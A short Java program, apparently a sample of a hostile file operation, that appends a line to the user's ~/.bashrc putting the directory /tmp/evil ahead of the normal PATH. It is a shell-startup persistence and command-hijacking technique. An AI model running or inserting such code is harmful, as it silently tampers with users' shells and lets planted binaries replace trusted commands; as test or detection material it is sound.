import java.nio.file.Files;
import java.nio.file.Path;

public class HomeDirectoryWrite {
    public static void main(String[] args) throws Exception {
        Path rc = Path.of(System.getProperty("user.home"), ".bashrc");
        Files.writeString(rc, "export PATH=/tmp/evil:$PATH\n", java.nio.file.StandardOpenOption.APPEND);
    }
}
